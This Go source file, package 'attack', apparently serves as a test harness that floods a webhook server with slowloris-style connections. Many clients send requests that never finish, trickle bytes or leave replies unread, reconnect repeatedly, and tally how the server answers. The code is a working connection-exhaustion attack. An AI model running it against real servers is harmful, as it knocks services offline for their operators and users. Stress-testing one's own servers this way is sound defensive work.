package attack

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"maps"
	"net"
	"sync"
	"time"
)

// Connections is a crowd of clients of which each has one connection open and never
// finishes what it sends.
type Connections struct {
	Target  string        // host:port
	From    []string      // the clients' addresses, in turn
	Count   int           // clients
	Opening []byte        // what each sends at once, such as [UnfinishedHeader]
	Then    []byte        // what it sends after that, again and again; nothing when it is empty
	Every   time.Duration // between two of those
	Unread  bool          // nothing that the server sends is read, so that it does not get rid of it
	Hold    time.Duration // after so long a client gives up by itself
	Again   time.Duration // from the end of a connection to the client's next one
	Ready   func()        // called once, when each client has sent its first opening or was refused
}

// Tally is what came of the connections of a crowd.
type Tally struct {
	Opened   int         // that were made
	Failed   int         // that could not be made
	Closed   int         // by the server, without an answer
	Answered map[int]int // by status
	GivenUp  int         // by the client, after Hold
	Open     int         // when the crowd was ended
}

// UnfinishedHeader is the beginning of a request whose header is size bytes of the
// shortest lines there are, and does not end.
func UnfinishedHeader(size int) []byte {
	const begin = "POST /webhooks/github HTTP/1.1\r\nHost: x\r\n"
	return append([]byte(begin), bytes.Repeat([]byte("a:\n"), max(0, size-len(begin))/3)...)
}

// UnfinishedLine is the beginning of a request of size bytes whose last header line does
// not end.
func UnfinishedLine(size int) []byte {
	const begin = "POST /webhooks/github HTTP/1.1\r\nHost: x\r\nX-Long: "
	return append([]byte(begin), bytes.Repeat([]byte("a"), max(0, size-len(begin)))...)
}

// BodyHeader is a request without its body, which has size bytes.
func BodyHeader(path string, size int) []byte {
	return fmt.Appendf(nil, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", path, size)
}

// Run plays the crowd until ctx ends.
func (c Connections) Run(ctx context.Context) Tally {
	crowd := &crowd{Connections: c, tally: Tally{Answered: make(map[int]int)}, waiting: c.Count}
	var all sync.WaitGroup
	for n := range c.Count {
		all.Go(func() { crowd.client(ctx, c.From[n%len(c.From)]) })
	}
	all.Wait()
	return crowd.tally
}

type crowd struct {
	Connections

	mu      sync.Mutex
	tally   Tally
	waiting int // clients that have not begun
}

// client opens one connection after the other.
func (c *crowd) client(ctx context.Context, from string) {
	begun := sync.OnceFunc(c.begun)
	defer begun()
	for ctx.Err() == nil {
		conn, err := Dialer(from).DialContext(ctx, "tcp", c.Target)
		switch {
		case err == nil:
			c.note(func(t *Tally) { t.Opened++ })
			stop := context.AfterFunc(ctx, func() { conn.Close() })
			c.hold(ctx, conn, begun)
			stop()
		case ctx.Err() == nil:
			c.note(func(t *Tally) { t.Failed++ })
		}
		begun()
		select {
		case <-time.After(c.Again):
		case <-ctx.Done():
		}
	}
}

// hold sends what there is to send, and waits for the server to end it.
func (c *crowd) hold(ctx context.Context, conn net.Conn, begun func()) {
	_, err := conn.Write(c.Opening)
	begun()
	if c.Unread {
		select {
		case <-time.After(c.Hold):
			c.note(func(t *Tally) { t.GivenUp++ })
		case <-ctx.Done():
			c.note(func(t *Tally) { t.Open++ })
		}
		conn.Close()
		return
	}
	_ = conn.SetReadDeadline(time.Now().Add(c.Hold)) // of a connection that is closed by then
	var sending sync.WaitGroup
	over := make(chan struct{})
	if err == nil && len(c.Then) > 0 {
		sending.Go(func() { c.trickle(conn, over) })
	}
	line, err := bufio.NewReaderSize(conn, 64).ReadString('\n')
	close(over)
	conn.Close()
	sending.Wait()
	var status int
	_, noStatus := fmt.Sscanf(line, "HTTP/1.1 %d", &status)
	timeout, isTimeout := err.(net.Error)
	c.note(func(t *Tally) {
		switch {
		case noStatus == nil:
			t.Answered[status]++
		case isTimeout && timeout.Timeout():
			t.GivenUp++
		case ctx.Err() != nil:
			t.Open++
		default:
			t.Closed++
		}
	})
}

func (c *crowd) trickle(conn net.Conn, over <-chan struct{}) {
	tick := time.NewTicker(c.Every)
	defer tick.Stop()
	for {
		select {
		case <-tick.C:
			if _, err := conn.Write(c.Then); err != nil {
				return
			}
		case <-over:
			return
		}
	}
}

func (c *crowd) note(change func(*Tally)) {
	c.mu.Lock()
	defer c.mu.Unlock()
	change(&c.tally)
}

func (c *crowd) begun() {
	c.mu.Lock()
	c.waiting--
	last := c.waiting == 0
	c.mu.Unlock()
	if last && c.Ready != nil {
		c.Ready()
	}
}

// Add adds another crowd's.
func (t Tally) Add(other Tally) Tally {
	t.Opened, t.Failed, t.Closed = t.Opened+other.Opened, t.Failed+other.Failed, t.Closed+other.Closed
	t.GivenUp, t.Open = t.GivenUp+other.GivenUp, t.Open+other.Open
	t.Answered = maps.Clone(t.Answered)
	if t.Answered == nil {
		t.Answered = make(map[int]int)
	}
	for status, n := range other.Answered {
		t.Answered[status] += n
	}
	return t
}
